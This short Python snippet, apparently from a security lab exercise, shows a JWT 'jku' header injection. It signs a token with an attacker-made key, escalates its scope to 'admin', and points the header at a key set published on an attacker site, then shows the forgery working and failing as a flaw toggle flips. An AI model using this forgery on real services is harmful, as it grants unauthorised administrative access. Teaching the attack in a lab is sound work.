# My own key pair; the public half published on the attacker's site; the token says where to fetch it.
import json

mine = RSAKey.generate_key(2048, parameters={"kid": "mallory-1"})
url = vulnerable.attacker.publish({"keys": [mine.as_dict(private=False)]})
claims = {**claims_of(lab.provider.mint(["api:read"])), "scope": "admin"}
forged = jws.serialize_compact({"alg": "RS256", "typ": "at+jwt", "kid": "mallory-1", "jku": url}, json.dumps(claims), mine)
print("jku_followed on: ", vulnerable.execute("admin_status", token=forged).status_code, "|", vulnerable.last_reasons()[0])
vulnerable.disable("jku_followed")
print("jku_followed off:", vulnerable.execute("admin_status", token=forged).status_code, "|", vulnerable.last_reasons()[0])
challenge.check()
